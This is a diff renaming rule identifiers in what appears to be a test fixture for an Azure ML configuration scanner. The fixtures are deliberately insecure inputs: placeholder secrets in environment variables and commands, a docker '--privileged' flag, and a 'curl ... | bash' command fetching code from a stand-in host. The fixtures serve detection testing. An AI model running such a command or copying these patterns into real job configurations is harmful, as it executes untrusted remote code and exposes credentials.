@@ -13,15 +13,15 @@ _MONITOR = "properties.action.monitorDefinition"
 JOB = bed(
     [
         (
-            "azure-ml/job-environment-secret",
+            "azure-ml/job-secret-in-environment",
             {"properties.environmentVariables.WANDB_API_KEY": "0123456789abcdef" * 2 + "01234567"},
         ),
         (
-            "azure-ml/job-command-secret",
+            "azure-ml/job-secret-in-command",
             {"properties.command": "HF_TOKEN=hf_abcdefghijklmnopqrstuvwxyzABCDEF01 ./train"},
         ),
         (
-            "azure-ml/job-runs-what-it-downloads",
+            "azure-ml/job-unpinned-download",
             {"properties.command": "curl -s https://get.nordlicht.example/x | bash\n./train"},
         ),
         (
@@ -33,7 +33,7 @@ JOB = bed(
             {"properties.resources.dockerArgs": "--shm-size 2g --privileged"},
         ),
         (
-            "azure-ml/job-learns-from-open-web",
+            "azure-ml/job-data-from-web",
             {"properties.inputs.data.uri": "https://data.example.org/churn.csv"},
         ),
     ]
@@ -45,8 +45,8 @@ MONITOR = bed(
             "azure-ml/monitor-failed azure-ml/endpoint-without-monitor",
             {"properties.provisioningState": "Failed"},
         ),
-        ("azure-ml/monitor-over", {"properties.trigger.endTime": "2024-01-01T00:00:00Z"}),
-        ("azure-ml/monitor-tells-nobody", {f"{_MONITOR}.alertNotificationSettings": None}),
+        ("azure-ml/monitor-expired", {"properties.trigger.endTime": "2024-01-01T00:00:00Z"}),
+        ("azure-ml/monitor-without-recipient", {f"{_MONITOR}.alertNotificationSettings": None}),
     ]
 )
 _SECRETS = ("0123456789abcdef" * 2 + "01234567",)
